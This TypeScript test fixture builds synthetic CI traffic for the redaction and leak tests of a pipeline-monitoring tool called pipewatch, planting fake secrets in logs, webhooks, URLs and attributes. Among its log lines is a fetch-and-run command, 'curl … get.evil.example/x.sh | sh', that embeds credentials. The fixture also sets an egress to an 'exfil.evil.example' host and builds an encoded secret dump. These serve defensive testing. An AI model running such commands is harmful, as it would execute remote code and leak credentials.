import { createHmac, randomUUID } from 'node:crypto';
import { createRequire } from 'node:module';
import { encodedSecretDump, lineFor, needlesOf, plantOneOfEach, type PlantedSecret } from './planted-secrets.js';

/** A string that must not come out of the pipeline, and where it was planted. */
export interface Needle {
  name: string;
  text: string;
  /** Sinks where this form may appear by design (the raw encoded dump on the logs topic, which the detector reads). */
  allowedIn?: string[];
  /** Not sent as such: what decoding a sent value yields (the detector decodes the dump). */
  derived?: boolean;
}

export interface PlannedRequest {
  what: string;
  path: string;
  contentType: string;
  body: string;
  headers?: Record<string, string>;
}

export interface SecretTraffic {
  needles: Needle[];
  /** Requests to send, in order: ten ordinary runs first, so baseline findings come too. */
  requests: PlannedRequest[];
  /** Event ids the runs topic must carry (redacted), proving the planted events went through. */
  eventIds: string[];
  knownSecretName: string;
  knownSecretValue: string;
  pipeline: string;
}

export interface TrafficCredentials {
  githubSecret: string;
}

const require = createRequire(import.meta.url);

/**
 * Everything planted in one run of the leak tests: one secret of every redacted
 * format in each place one can travel (log lines of all three content types, step
 * names, attribute keys and values, run URLs, dependency sources, process paths,
 * the fields GitHub, GitLab and Jenkins deliveries are mapped from, and fields they
 * carry that pipewatch must never read), a known secret by name (raw, base64,
 * percent-encoded) and a tj-actions style encoded dump that the detector decodes
 * into a `log.encoded_secret` finding.
 */
export function secretTraffic(tag: string, credentials: TrafficCredentials): SecretTraffic {
  const plants = plantOneOfEach(tag, 7);
  const byName = (name: string): PlantedSecret & { name: string } => plants.find((plant) => plant.name === name)!;
  const knownSecretName = 'HOSTILE_DEPLOY_KEY';
  const knownSecretValue = `kv/${randomUUID().replaceAll('-', '')}+${tag}=`;
  const knownForms = {
    raw: knownSecretValue,
    base64: Buffer.from(knownSecretValue).toString('base64').replace(/=+$/, ''),
    base64url: Buffer.from(knownSecretValue).toString('base64url'),
    percent: encodeURIComponent(knownSecretValue),
  };
  const dumped = byName('github_token').secret;
  const dump = encodedSecretDump({ GITHUB_TOKEN: dumped, [knownSecretName]: 'not-in-any-sink-either' });

  const needles: Needle[] = [
    ...plants.flatMap((plant) => needlesOf(plant).map((text, index) => ({ name: `${plant.name}${index > 0 ? `#${index}` : ''}`, text }))),
    ...Object.entries(knownForms).map(([form, text]) => ({ name: `known_value:${form}`, text })),
    { name: 'encoded_dump:blob', text: dump.blob, allowedIn: ['kafka:logs'] },
    { name: 'encoded_dump:once_decoded', text: dump.once, derived: true },
    { name: 'encoded_dump:inner_value', text: 'not-in-any-sink-either', derived: true },
  ];

  const pipeline = `hostile:${tag}:secrets`;
  const lines = plants.flatMap((plant) => plant.line.split('\n'));
  const knownLines = Object.values(knownForms).map((form) => `deploying with key ${form} now`);
  const logLines = [...lines, ...knownLines, dump.line, `curl -fsSL https://deploy:${byName('url_credentials').secret}@get.evil.example/x.sh | sh`];
  const runs = Array.from({ length: 10 }, (_, index) => runEvent(pipeline, `${tag}-r${index}`, index, {}));
  const planted = runEvent(pipeline, `${tag}-planted`, 10, {
    attributes: Object.fromEntries([
      ...plants.map((plant, index) => [`note_${index}`, plant.line.slice(0, 2000)]),
      [`key ${byName('npm_token').secret}`, 'attribute key holding a token'],
      ['known', `value ${knownSecretValue}`],
    ]),
    steps: plants.slice(0, 12).map((plant) => ({ name: plant.line.split('\n')[0]!.slice(0, 500) })),
    runUrl: `https://ci:${byName('url_credentials').secret}@ci.example.com/runs/1?token=${byName('assignment').secret}`,
    source: `https://bot:${byName('assignment').secret}@registry.example.com/pkg.tgz`,
    exe: `/tmp/run-${byName('aws_access_key_id').secret}/sh`,
  });
  const fork = runEvent(`${pipeline}:fork`, `${tag}-fork`, 11, {
    runUrl: `https://ci.example.com/runs/fork?access_token=${byName('gitlab_token').secret}`,
    fromFork: true,
    attributes: { pr_title: lineFor('bearer', byName('bearer').secret) },
  });

  const githubBody = githubJob(tag, plants);
  const requests: PlannedRequest[] = [
    { what: 'ten ordinary runs', path: '/v1/events', contentType: 'application/x-ndjson', body: runs.map((run) => JSON.stringify(run)).join('\n') },
    { what: 'the planted run and a fork run (NDJSON)', path: '/v1/events', contentType: 'application/x-ndjson', body: [planted, fork].map((run) => JSON.stringify(run)).join('\n') },
    {
      what: 'a log batch as JSON',
      path: '/v1/logs',
      contentType: 'application/json',
      body: JSON.stringify(logBatch(pipeline, `${tag}-logs-json`, logLines, `deploy with ${byName('slack_token').secret}`)),
    },
    {
      what: 'two log batches as NDJSON, a key block split across them',
      path: '/v1/logs',
      contentType: 'application/x-ndjson',
      body: [
        logBatch(pipeline, `${tag}-logs-nd-1`, ['start', ...lineFor('private_key', byName('private_key').secret).split('\n').slice(0, 3)]),
        logBatch(pipeline, `${tag}-logs-nd-2`, [...lineFor('private_key', byName('private_key').secret).split('\n').slice(3), ...lines.slice(0, 8)]),
      ]
        .map((batch) => JSON.stringify(batch))
        .join('\n'),
    },
    {
      what: 'raw lines as text/plain',
      path: `/v1/logs?pipeline=${encodeURIComponent(pipeline)}&run=${tag}-text&step=${encodeURIComponent(`step ${byName('jwt').secret}`)}`,
      contentType: 'text/plain',
      body: `${logLines.join('\n')}\n`,
    },
    {
      what: 'a GitHub workflow_job delivery',
      path: '/webhooks/github',
      contentType: 'application/json',
      body: githubBody,
      headers: {
        'x-github-event': 'workflow_job',
        'x-github-delivery': randomUUID(),
        'x-hub-signature-256': `sha256=${createHmac('sha256', credentials.githubSecret).update(githubBody).digest('hex')}`,
      },
    },
    { what: 'a GitLab pipeline hook', path: '/webhooks/gitlab', contentType: 'application/json', body: gitlabPipeline(tag, plants, knownSecretValue) },
    { what: 'a Jenkins notification', path: '/webhooks/jenkins', contentType: 'application/json', body: jenkinsNotification(tag, plants, knownSecretValue) },
  ];
  return {
    needles,
    requests,
    eventIds: [planted.event_id, fork.event_id],
    knownSecretName,
    knownSecretValue,
    pipeline,
  };
}

interface RunExtras {
  attributes?: Record<string, string>;
  steps?: { name: string }[];
  runUrl?: string;
  source?: string;
  exe?: string;
  fromFork?: boolean;
}

function runEvent(pipeline: string, eventId: string, index: number, extras: RunExtras): Record<string, any> {
  const anomalous = index >= 10;
  return {
    schema: 'pipewatch.run/v1',
    event_id: eventId,
    source: 'generic',
    occurred_at: new Date(Date.UTC(2026, 0, 1) + index * 600_000).toISOString(),
    pipeline: { id: pipeline, repository: 'octo/hostile' },
    run: {
      id: eventId,
      status: 'success',
      trigger: extras.fromFork ? 'pull_request_target' : 'push',
      ...(extras.fromFork ? { from_fork: true } : {}),
      ...(extras.runUrl ? { url: extras.runUrl } : {}),
    },
    resources: { duration_s: anomalous ? 2_000 : 120 + (index % 3), cpu_s: anomalous ? 900 : 40 + (index % 2) },
    access: {
      secrets: ['GITHUB_TOKEN'],
      egress: [{ host: 'registry.npmjs.org', port: 443 }, ...(anomalous ? [{ host: 'exfil.evil.example', port: 4444 }] : [])],
      ...(extras.exe ? { processes: [{ exe: extras.exe, parent: '/bin/bash' }] } : {}),
    },
    ...(extras.steps ? { steps: extras.steps } : {}),
    ...(extras.source ? { dependencies: [{ name: 'pkg', version: '1.0.0', digest: `sha256:${'e'.repeat(64)}`, source: extras.source }] } : {}),
    ...(extras.attributes ? { attributes: extras.attributes } : {}),
  };
}

function logBatch(pipeline: string, eventId: string, lines: string[], step?: string): Record<string, unknown> {
  return { schema: 'pipewatch.log/v1', event_id: eventId, source: 'generic', pipeline: { id: pipeline }, run: { id: eventId }, ...(step ? { step } : {}), lines: lines.map((text) => ({ text })) };
}

function githubJob(tag: string, plants: (PlantedSecret & { name: string })[]): string {
  const definitions = require('@octokit/webhooks-examples') as { name: string; examples: Record<string, any>[] }[];
  const payload = structuredClone(definitions.find((definition) => definition.name === 'workflow_job')!.examples.find((example) => example.action === 'completed')!);
  const job = payload.workflow_job;
  job.id = Number.parseInt(tag.replace(/\D/g, '').slice(0, 9) || '7', 10) + 1_000_000;
  job.html_url = `https://x-access-token:${plants.find((plant) => plant.name === 'url_credentials')!.secret}@github.com/octo/hostile/actions/runs/1`;
  job.steps = plants.map((plant, index) => ({ name: plant.line.split('\n')[0]!.slice(0, 200), status: 'completed', conclusion: 'success', number: index + 1 }));
  // Fields pipewatch never reads.
  job.never_read = plants.map((plant) => plant.line).join(' ');
  payload.sender = { ...payload.sender, bio: plants.map((plant) => plant.secret).join(' ') };
  return JSON.stringify(payload);
}

function gitlabPipeline(tag: string, plants: (PlantedSecret & { name: string })[], known: string): string {
  const secret = (name: string) => plants.find((plant) => plant.name === name)!.secret;
  return JSON.stringify({
    object_kind: 'pipeline',
    object_attributes: {
      id: 5_000 + tag.length,
      status: 'success',
      source: 'push',
      ref: 'main',
      sha: 'abc123',
      created_at: '2026-01-01 10:00:00 UTC',
      finished_at: '2026-01-01 10:05:00 UTC',
      duration: 300,
      url: `https://gitlab-ci-token:${secret('url_credentials')}@gitlab.example.com/octo/hostile/-/pipelines/1`,
      // Pipeline variables are never copied.
      variables: plants.map((plant) => ({ key: plant.name.toUpperCase(), value: plant.secret })).concat([{ key: 'HOSTILE_DEPLOY_KEY', value: known }]),
    },
    project: { id: 1, path_with_namespace: 'octo/hostile', web_url: 'https://gitlab.example.com/octo/hostile' },
    user: { username: 'mona' },
    commit: { message: plants.map((plant) => plant.line).join('\n') },
    builds: plants.slice(0, 6).map((plant, index) => ({ id: 100 + index, name: `job ${index}`, stage: 'test', status: 'success', failure_reason: plant.line.split('\n')[0] })),
  });
}

function jenkinsNotification(tag: string, plants: (PlantedSecret & { name: string })[], known: string): string {
  const secret = (name: string) => plants.find((plant) => plant.name === name)!.secret;
  return JSON.stringify({
    name: `hostile-${tag}`,
    display_name: `hostile-${tag}`,
    url: `job/hostile-${tag}/`,
    build: {
      full_url: `https://jenkins:${secret('url_credentials')}@ci.example.com/job/hostile/1/?token=${secret('assignment')}`,
      number: 1,
      phase: 'COMPLETED',
      status: 'SUCCESS',
      timestamp: Date.UTC(2026, 0, 1, 12),
      duration: 60_000,
      scm: { url: `https://deploy:${secret('url_credentials')}@git.example.com/octo/hostile.git`, branch: 'origin/main', commit: 'abc123' },
      // Never read: the plugin's parameters and log.
      parameters: Object.fromEntries(plants.map((plant) => [plant.name.toUpperCase(), plant.secret]).concat([['HOSTILE_DEPLOY_KEY', known]])),
      log: plants.map((plant) => plant.line).join('\n'),
    },
  });
}

/** Counts, per sink, how many needles appear in its text. */
export function leakTable(sinks: Record<string, string>, needles: readonly Needle[]): { sink: string; planted: number; leaked: string[] }[] {
  return Object.entries(sinks).map(([sink, text]) => ({
    sink,
    planted: needles.length,
    leaked: needles.filter((needle) => !(needle.allowedIn ?? []).includes(sink) && text.includes(needle.text)).map((needle) => needle.name),
  }));
}
